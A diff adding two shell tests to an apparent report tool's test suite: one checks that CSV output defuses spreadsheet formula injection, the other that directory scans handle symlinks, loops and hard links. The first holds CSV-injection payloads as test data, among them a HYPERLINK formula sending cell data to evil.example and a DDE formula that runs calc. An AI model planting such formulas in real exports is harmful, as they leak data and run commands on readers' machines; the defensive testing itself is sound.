@@ -214,4 +214,70 @@ elif [ "$rss" -lt $((total / 4)) ]; then
 else
 	fail "max RSS ${rss} KiB for $((total / 1024)) MiB of snapshots"
 fi
+# 12.C16: hostile host names in snapshots never reach a spreadsheet as
+# formulas (OWASP "CSV Injection"): a text cell starting with =, +, -, @,
+# tab or CR gets a leading ' inside quotes; numbers stay numbers.
+C=$TMPD/csvinj
+mkdir -p "$C"
+python3 - "$F/dc2/charlie.json" "$C" <<'EOT'
+import json, os, sys
+d = json.load(open(sys.argv[1]))
+names = ['=HYPERLINK("http://evil.example/?"&A1,"click")',
+         "-2+3+cmd|' /C calc'!A0", '+1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1']
+for i, n in enumerate(names):
+    d['host']['hostname'] = n
+    d['ipc_namespace']['hostname'] = n
+    d['host']['kernel_release'] = '=cmd|x' if i == 0 else '6.1'
+    json.dump(d, open(os.path.join(sys.argv[2], 'h%d.json' % i), 'w'))
+json.dump(d, open(os.path.join(sys.argv[2], '=1+1.json'), 'w'))
+EOT
+(cd "$C" && "$IPCTUNE" report --format csv h0.json h1.json h2.json h3.json \
+    h4.json h5.json =1+1.json missing.json) >"$TMPD/inj.csv" 2>/dev/null
+cat >"$TMPD/inj.py" <<'EOT'
+import csv, re, sys
+rows = list(csv.reader(open(sys.argv[1], newline='')))
+num = re.compile(r'-?[0-9]+(\.[0-9]+)?$')
+for r in rows[1:]:
+    for c in r:
+        if c and c[0] in '=+-@\t\r' and not num.match(c) and c != '-':
+            sys.exit('formula cell %r in %r' % (c, r[:3]))
+hosts = [r[1] for r in rows[1:]]
+want = ['\'=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "'-2+3+cmd|' /C calc'!A0", "'+1+1", "'@SUM(1+1)",
+        "'\\x09=1+1", "'\\x0d=1+1"]
+for w in want:
+    assert w in hosts, (w, hosts)
+assert rows[1][3] == "'=cmd|x", rows[1][3]
+files = [r[0] for r in rows[1:]]
+assert "'=1+1.json" in files, files
+EOT
+if out=$(python3 "$TMPD/inj.py" "$TMPD/inj.csv" 2>&1); then
+	ok "12.C16 report --format csv neutralises formula cells from hostile snapshots"
+else
+	fail "12.C16 report --format csv writes a formula cell: $out"
+fi
+
+# 12.C17: report DIR does not follow directory symlinks and counts each
+# file once: a "latest" link to a dated directory, a link back up (a
+# loop), a hard link and a symbolic link to the same snapshot.
+L=$TMPD/links
+mkdir -p "$L/2026-12-07/web1" "$L/2026-12-07/web2"
+cp "$F/dc1/bravo.json" "$L/2026-12-07/web1/web1.json"
+cp "$F/dc2/charlie.json" "$L/2026-12-07/web2/web2.json"
+ln -s 2026-12-07 "$L/latest"
+ln -s .. "$L/2026-12-07/web1/up"
+ln "$L/2026-12-07/web2/web2.json" "$L/2026-12-07/web2/again.json"
+ln -s web2.json "$L/2026-12-07/web2/link.json"
+"$IPCTUNE" report "$L" >"$TMPD/links.out" 2>&1
+expect_eq "12.C17 report DIR counts each snapshot once through latest, loop and links" \
+    "2 snapshots: 2 read, 0 skipped" "$(head -1 "$TMPD/links.out")"
+"$IPCTUNE" report --format json "$L" "$L/latest" \
+    "$L/2026-12-07/web1/web1.json" >"$TMPD/links.json" 2>/dev/null
+expect_eq "12.C17 a file named again as an operand or through a named link counts once" \
+    '{"files": 2, "read": 2, "skipped": 0}' \
+    "$(python3 -c 'import json,sys; print(json.dumps(json.load(open(sys.argv[1]))["snapshots"]))' "$TMPD/links.json")"
+ln -s "$L/2026-12-07" "$TMPD/dated"
+"$IPCTUNE" report "$TMPD/dated" >"$TMPD/links.out" 2>&1
+expect_eq "12.C17 a symbolic link named as the operand is followed" \
+    "2 snapshots: 2 read, 0 skipped" "$(head -1 "$TMPD/links.out")"
 finish
